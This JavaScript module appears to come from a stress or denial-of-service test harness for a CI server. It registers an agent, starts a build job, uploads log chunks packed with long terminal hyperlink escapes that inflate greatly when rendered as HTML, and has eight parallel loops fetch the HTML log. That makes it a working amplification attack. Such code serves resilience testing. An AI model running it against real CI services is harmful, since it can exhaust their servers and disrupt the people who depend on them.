// Logs that become thousands of times as much HTML, read as HTML by several clients.
import { call, callOk } from '../harness/load.mjs';
import { registrationToken } from '../harness/organization.mjs';
import { builds, pipelines } from './measure.mjs';

const name = 'log-html';

async function attack({ url, tally }, signal) {
  const v3 = `${url}/v3`;
  const registration = await callOk(`${v3}/register`, {
    method: 'POST',
    token: `Token ${registrationToken}`,
    body: {
      name: 'a',
      hostname: 'bench',
      os: 'linux',
      arch: 'amd64',
      version: '3.100.0',
      meta_data: ['queue=default'],
    },
  });
  const token = `Token ${registration.access_token}`;
  await callOk(`${v3}/connect`, { method: 'POST', token, body: {} });
  await callOk(`${pipelines(url)}/app`, { method: 'PATCH', body: { configuration: 'steps: [{ command: make }]' } });
  await callOk(builds(url), {
    method: 'POST',
    body: { commit: 'HEAD', branch: 'main', message: 'x' },
  });
  const { job } = await callOk(`${v3}/ping`, { token });
  const accepted = await callOk(`${v3}/jobs/${job.id}/accept`, { method: 'PUT', token, body: {} });
  await callOk(`${v3}/jobs/${job.id}/start`, { method: 'PUT', token, body: { started_at: new Date().toISOString() } });
  const piece = Buffer.from(`\u001b]8;;http://example.com/${'a'.repeat(8_000)}\u0007${'x\n'.repeat(28_000)}`);
  for (let sequence = 0; sequence < 20; sequence += 1) {
    const address = `${v3}/jobs/${job.id}/chunks?sequence=${sequence}&offset=${sequence * piece.length}&size=${piece.length}`;
    const reply = await fetch(address, {
      method: 'POST',
      headers: { authorization: token, 'content-type': 'text/plain' },
      body: piece,
    });
    if (!reply.ok) throw new Error(`chunk: ${reply.status} ${await reply.text()}`);
  }
  // Builds of other attacks may be waiting too.
  const { BUILDKITE_BUILD_NUMBER: number } = accepted.env;
  const log = `${builds(url)}/${number}/jobs/${job.id}/log.html`;
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      while (!signal.aborted) tally((await call(log)).status);
    }),
  );
}

export const attacks = [{ name, attack }];
